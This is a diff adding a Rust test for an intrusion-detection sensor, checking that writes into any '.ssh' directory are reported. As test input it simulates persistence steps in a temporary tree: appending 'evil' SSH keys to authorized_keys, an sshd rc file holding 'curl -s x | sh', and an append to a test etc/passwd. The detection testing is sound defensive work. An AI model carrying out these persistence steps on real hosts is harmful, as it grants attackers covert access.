@@ -171,6 +171,169 @@ fn writes_to_watched_paths_are_reported_and_others_are_not() {
     );
 }
 
+/// With `user_ssh_dirs`, a `.ssh` directory made after the sensor
+/// started (an account an intruder added, or one that had none) is
+/// watched by its name: a key appended, sshd's `rc` written from inside
+/// it, a key renamed into place by relative and absolute paths, a file
+/// removed there, and a whole directory renamed to `.ssh`. Directories
+/// named otherwise, and a directory below `.ssh`, are not.
+#[test]
+fn any_directory_named_ssh_is_watched_whenever_it_was_made() {
+    let tree = Tree::new();
+    let config = tree
+        .config()
+        .replace("user_ssh_dirs = false", "user_ssh_dirs = true");
+    let sensor = Sensor::start(&config);
+    let root = &tree.root;
+    for d in [
+        "home/bob/.ssh/keys",
+        "home/bob/x.ssh",
+        "home/bob/notssh",
+        "home/carol/.ssh",
+    ] {
+        std::fs::create_dir_all(tree.path(d)).expect("mkdir");
+    }
+    let bob_ssh = tree.path("home/bob/.ssh");
+
+    let append = sh(
+        "echo 'ssh-ed25519 AAAA evil' >> home/bob/.ssh/authorized_keys",
+        root,
+    );
+    let rc = sh("echo 'curl -s x | sh' > rc", &bob_ssh);
+    // Through a symlink that names no `.ssh`: the file the kernel opened does.
+    std::os::unix::fs::symlink(&bob_ssh, tree.path("other/link")).expect("symlink");
+    let through_link = sh(
+        "echo 'ssh-ed25519 BBBB evil' >> other/link/authorized_keys2",
+        root,
+    );
+    std::fs::write(tree.path("other/k1"), b"k").expect("write");
+    let mv_relative = run("mv", &["other/k1", "home/carol/.ssh/authorized_keys"], root);
+    std::fs::write(tree.path("other/k2"), b"k").expect("write");
+    let (k2, carol_keys2) = (
+        tree.path("other/k2"),
+        tree.path("home/carol/.ssh/authorized_keys2"),
+    );
+    let mv_absolute = run(
+        "mv",
+        &[
+            k2.to_str().expect("utf-8"),
+            carol_keys2.to_str().expect("utf-8"),
+        ],
+        root,
+    );
+    let rm_inside = run("rm", &["rc"], &bob_ssh);
+    std::fs::create_dir_all(tree.path("other/prepared")).expect("mkdir");
+    let dave_ssh = tree.path("home/dave/.ssh");
+    std::fs::create_dir_all(tree.path("home/dave")).expect("mkdir");
+    let mv_dir = run(
+        "mv",
+        &[
+            tree.path("other/prepared").to_str().expect("utf-8"),
+            dave_ssh.to_str().expect("utf-8"),
+        ],
+        root,
+    );
+    // Not watched: other names, and below a `.ssh` directory.
+    let quiet = sh(
+        "echo k > home/bob/x.ssh/authorized_keys && echo k > home/bob/notssh/authorized_keys \
+         && echo k > home/bob/.ssh/keys/old && rm home/bob/.ssh/keys/old",
+        root,
+    );
+    let control = sh(
+        &format!("echo root2 >> '{}'", tree.path("etc/passwd").display()),
+        root,
+    );
+
+    let label = |dir: &Path| format!("{}/", dir.display());
+    let ev = sensor.wait_for("a key appended", |v| write_by(v, "open_write", append));
+    assert_eq!(
+        at(&ev, "file.path").as_str(),
+        tree.path("home/bob/.ssh/authorized_keys").to_str(),
+        "{ev}"
+    );
+    assert_eq!(
+        at(&ev, "sensor.file_write.watched"),
+        label(&bob_ssh).as_str(),
+        "{ev}"
+    );
+    assert_eq!(at(&ev, "sensor.file_write.matched_by"), "name", "{ev}");
+    let ev = sensor.wait_for("sshd's rc written", |v| write_by(v, "open_write", rc));
+    assert_eq!(
+        at(&ev, "file.path").as_str(),
+        bob_ssh.join("rc").to_str(),
+        "{ev}"
+    );
+    assert_eq!(at(&ev, "event.type")[0], "creation");
+    let ev = sensor.wait_for("a key appended through a symlink", |v| {
+        write_by(v, "open_write", through_link)
+    });
+    assert_eq!(
+        at(&ev, "file.path").as_str(),
+        bob_ssh.join("authorized_keys2").to_str(),
+        "{ev}"
+    );
+    assert_eq!(
+        at(&ev, "sensor.file_write.watched"),
+        label(&bob_ssh).as_str(),
+        "{ev}"
+    );
+    assert_eq!(at(&ev, "sensor.file_write.matched_by"), "name", "{ev}");
+    for (what, pid, to) in [
+        (
+            "relative",
+            mv_relative,
+            tree.path("home/carol/.ssh/authorized_keys"),
+        ),
+        ("absolute", mv_absolute, carol_keys2.clone()),
+    ] {
+        let ev = sensor.wait_for(&format!("a key renamed into place ({what})"), |v| {
+            write_by(v, "rename", pid)
+        });
+        assert_eq!(
+            at(&ev, "sensor.file_write.new_path").as_str(),
+            to.to_str(),
+            "{ev}"
+        );
+        assert_eq!(
+            at(&ev, "sensor.file_write.watched"),
+            label(&tree.path("home/carol/.ssh")).as_str(),
+            "{ev}"
+        );
+    }
+    let ev = sensor.wait_for("a file removed inside", |v| {
+        write_by(v, "unlink", rm_inside)
+    });
+    assert_eq!(
+        at(&ev, "file.path").as_str(),
+        bob_ssh.join("rc").to_str(),
+        "{ev}"
+    );
+    let ev = sensor.wait_for("a directory renamed to .ssh", |v| {
+        write_by(v, "rename", mv_dir)
+    });
+    assert_eq!(
+        at(&ev, "sensor.file_write.new_path").as_str(),
+        dave_ssh.to_str(),
+        "{ev}"
+    );
+    assert_eq!(
+        at(&ev, "sensor.file_write.watched"),
+        label(&dave_ssh).as_str(),
+        "{ev}"
+    );
+
+    sensor.wait_for("the control append", |v| write_by(v, "open_write", control));
+    let reported: Vec<Value> = sensor
+        .events()
+        .into_iter()
+        .filter(|v| pid_of(v) == quiet && at(v, "event.category")[0] == "file")
+        .collect();
+    assert!(
+        reported.is_empty(),
+        "writes outside .ssh directories: {reported:?}"
+    );
+}
+
 /// Runs `program args` in `cwd` as nobody (uid and gid 65534, no
 /// groups), expecting it to fail; its pid (setpriv execs the program).
 fn run_as_nobody_failing(program: &str, args: &[&str], cwd: &Path) -> u64 {
